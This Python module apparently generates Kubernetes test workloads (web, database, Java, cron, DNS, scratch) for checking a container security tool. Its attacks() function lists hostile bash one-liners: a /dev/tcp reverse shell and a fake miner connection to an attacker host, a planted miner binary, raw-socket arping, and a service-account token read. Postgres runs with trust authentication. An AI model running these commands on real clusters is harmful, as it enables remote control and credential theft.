"""Six applications of registry packages, what loads them, and what an attacker tries in each."""

import json
from collections.abc import Iterator, Mapping
from typing import Any

IMAGE = "localhost/packages:1"
SPACE = "shop"
NAMES = ("web", "db", "java", "report", "names", "scratch")
"""Of the workloads: a web server, a database, a Java service, a cron job, a client of DNS, one that writes temporary files."""
SERVED = {"web": 8080, "db": 5432, "java": 8081}
_DOMAIN = f"{SPACE}.svc.cluster.local"

WEB = """
mkdir -p /var/log/nginx /var/lib/nginx
echo 'pid /run/nginx.pid; events {} http { server { listen 8080; location / { return 200 nginx; } } }' > /run/nginx.conf
exec nginx -c /run/nginx.conf -g 'daemon off;'
"""
DB = """
install -d -o postgres /data/db
run='setpriv --reuid=100 --regid=100 --clear-groups'; bin=/usr/lib/postgresql/15/bin
$run $bin/initdb -D /data/db -A trust
echo 'host all all all trust' >> /data/db/pg_hba.conf
exec $run $bin/postgres -D /data/db -c listen_addresses='*' -c unix_socket_directories=/tmp -c jit=off
"""
JAVA = """
mkdir -p /tmp/t/conf /tmp/t/logs /tmp/t/temp /tmp/t/webapps/ROOT
cp -rL /usr/share/tomcat10/etc/. /tmp/t/conf/
sed -i s/8080/8081/ /tmp/t/conf/server.xml
echo tomcat-answers > /tmp/t/webapps/ROOT/a.txt
export CATALINA_BASE=/tmp/t CATALINA_HOME=/usr/share/tomcat10 JAVA_HOME=/usr/lib/jvm/java-17-openjdk-amd64
exec /bin/sh /usr/share/tomcat10/bin/catalina.sh run
"""
_ASK = (
    "fetch('http://web:8080/').then(r => r.text()).then(t => {{ if (t !== 'nginx') throw t; {then} }})"
    ".catch(e => {{ console.log('fails', String(e), String(e.cause)); process.exitCode = 1 }})"
)
REPORT = f"""
date > /tmp/report; sort /tmp/report > /var/tmp/sorted; test -s /var/tmp/sorted
node -e "{_ASK.format(then="console.log('report works')")}"
sleep 45
"""
NAMED = "\n".join((
    "const dns = require('dns').promises; let round = 0;",
    "const one = async () => {",
    "  for (const name of ['web', 'db', 'java', 'web.shop', 'db.shop.svc.cluster.local', 'nobody.example.org']) {",
    "    const found = await dns.lookup(name, {all: true}).catch(() => []);",
    "    if (name.includes('nobody') ? found.length : found.length !== 1) throw name;",
    "  }",
    "  const answer = await (await fetch('http://web:8080/')).text();",
    "  if (answer !== 'nginx') throw answer;",
    "  console.log('works', ++round);",
    "};",
    "setInterval(() => one().catch(e => console.log('fails', String(e), String(e.cause))), 1000);",
))  # fmt: skip
SCRATCH = """
round=0
while true; do
  one=$(mktemp /var/tmp/one.XXXXXX) && date > $one && cp $one /tmp/two && cat /tmp/two > /dev/null && rm $one && echo works $((++round))
  sleep 0.5
done
"""
LOAD = """
ask() { exec 3<>/dev/tcp/$1/$2 && printf 'GET %s HTTP/1.0\\r\\nHost: a\\r\\n\\r\\n' $3 >&3 && timeout 5 tail -n 1 <&3; }
round=0
while true; do
  web=$(ask $WEB_SERVICE_HOST 8080 /); [ "$web" = nginx ] && echo web works $round
  java=$(ask $JAVA_SERVICE_HOST 8081 /a.txt); [ "$java" = tomcat-answers ] && echo java works $round
  sql="create table if not exists t (n int); insert into t values ($round); select 'rows'"
  rows=$(PGCONNECT_TIMEOUT=5 /usr/lib/postgresql/15/bin/psql -h $DB_SERVICE_HOST -U postgres -Atqc "$sql" postgres) &&
    [ "$rows" = rows ] && echo db works $round
  round=$((round + 1)); sleep 1
done
"""
_NAMESERVER = """
const table = %s;
const server = require('dgram').createSocket('udp4');
server.on('message', (asked, from) => {
  const labels = []; let at = 12;
  while (asked[at]) { labels.push(asked.toString('latin1', at + 1, at + 1 + asked[at])); at += asked[at] + 1 }
  const question = asked.subarray(12, at + 5), type = asked.readUInt16BE(at + 1);
  const known = table[labels.join('.').toLowerCase()];
  const head = Buffer.from(asked.subarray(0, 12)), answers = known && type === 1 ? 1 : 0;
  head.writeUInt16BE(known ? 0x8580 : 0x8583, 2); head.writeUInt16BE(answers, 6);
  head.writeUInt16BE(0, 8); head.writeUInt16BE(0, 10);
  const answer = Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 5, 0, 4, ...(known || '0.0.0.0').split('.').map(Number)]);
  server.send(Buffer.concat(answers ? [head, question, answer] : [head, question]), from.port, from.address);
});
server.bind(53);
"""


def services() -> Iterator[dict[str, Any]]:
    for name, port in SERVED.items():
        ports = [{"name": name, "port": port, "targetPort": port}]
        yield named("v1", "Service", name, {"selector": {"app": name}, "ports": ports})
    names = [{"name": f"dns-{one.lower()}", "port": 53, "protocol": one} for one in ("UDP", "TCP")]
    yield named("v1", "Service", "dns", {"selector": {"app": "dns"}, "ports": names})


def nameserver(addresses: Mapping[str, str]) -> dict[str, Any]:
    """``addresses`` of the services, by name."""
    table = {f"{name}.{_DOMAIN}": address for name, address in addresses.items()}
    return deployment("dns", pod(["node", "-e", _NAMESERVER % json.dumps(table)]))


def load() -> dict[str, Any]:
    return deployment("load", pod(["/bin/bash", "-c", LOAD]))


def applications(nameserver: str) -> dict[str, dict[str, Any]]:
    """By name."""
    dns = {
        "dnsPolicy": "None",
        "dnsConfig": {
            "nameservers": [nameserver],
            "searches": [_DOMAIN, "svc.cluster.local", "cluster.local"],
        },
    }
    report = pod(["/bin/bash", "-ec", REPORT], restartPolicy="Never", **dns)
    job = {"template": {"metadata": {"labels": {"app": "report"}}, "spec": report}, "backoffLimit": 0}
    cron = {"schedule": "* * * * *", "concurrencyPolicy": "Forbid", "jobTemplate": {"spec": job}}
    web = pod(["/bin/bash", "-ec", WEB])
    web["containers"][0]["readinessProbe"] = {"tcpSocket": {"port": 8080}, "periodSeconds": 2}
    return {
        "web": deployment("web", web),
        "db": deployment("db", pod(["/bin/bash", "-ec", DB])),
        "java": deployment("java", pod(["/bin/bash", "-ec", JAVA])),
        "report": named("batch/v1", "CronJob", "report", cron),
        "names": deployment("names", pod(["node", "-e", NAMED], **dns)),
        "scratch": deployment("scratch", pod(["/bin/bash", "-c", SCRATCH])),
    }


def chosen(wanted: str) -> tuple[str, ...]:
    """The names in ``wanted``, between commas, with what they ask; all of them where it is empty. Raises: ``ValueError`` for others."""
    names = set(filter(None, wanted.split(",")))
    if not names <= set(NAMES):
        raise ValueError(f"{wanted}: use some of {','.join(NAMES)}")
    if names & {"report", "names"}:
        names.add("web")
    return tuple(one for one in NAMES if one in names or not names)


def attacks(attacker: str, neighbour: str) -> dict[str, str]:
    """Scripts for bash by what they attempt; each succeeds where nothing holds it.

    ``attacker`` listens at ports 4444 and 3333; ``neighbour`` is an address on the network of the pods.
    """
    return {
        "shell": f"timeout 6 bash -c 'exec 3<>/dev/tcp/{attacker}/4444 && sh <&3 >&3 2>&3'",
        "write": "cp /bin/true /usr/bin/miner",
        "miner": f"timeout 6 bash -c 'exec 3<>/dev/tcp/{attacker}/3333 && echo mining.subscribe >&3 && read -r -u 3 line'",
        "raw socket": f"arping -q -f -c 3 -w 5 -I eth0 {neighbour}",
        "token": "cat /var/run/secrets/kubernetes.io/serviceaccount/token > /dev/null",
    }


def pod(command: list[str], **fields: Any) -> dict[str, Any]:
    container = {"name": "main", "image": IMAGE, "command": command}
    return {"terminationGracePeriodSeconds": 0, "containers": [container], **fields}


def deployment(name: str, spec: dict[str, Any]) -> dict[str, Any]:
    labels = {"app": name}
    template = {"metadata": {"labels": labels}, "spec": spec}
    body = {"replicas": 1, "selector": {"matchLabels": labels}, "template": template}
    return named("apps/v1", "Deployment", name, body)


def named(api: str, kind: str, name: str, spec: dict[str, Any]) -> dict[str, Any]:
    return {"apiVersion": api, "kind": kind, "metadata": {"name": name, "namespace": SPACE}, "spec": spec}
